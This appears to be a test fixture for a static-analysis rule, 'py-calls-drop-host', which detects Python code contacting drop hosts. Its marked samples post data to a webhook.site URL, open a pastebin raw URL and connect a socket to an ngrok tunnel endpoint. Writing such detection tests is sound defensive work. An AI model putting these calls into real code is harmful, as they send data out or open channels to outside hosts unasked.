import socket

import requests
from urllib.request import urlopen

# ruleid: py-calls-drop-host
requests.post("https://webhook.site/0f1e", data={"a": 1})
ADDRESS = "https://pastebin.com/" + "raw/AbCd"
# ruleid: py-calls-drop-host
urlopen(ADDRESS)


def connect():
    s = socket.socket()
    # ruleid: py-calls-drop-host
    s.connect(("0.tcp.eu.ngrok.io", 12345))
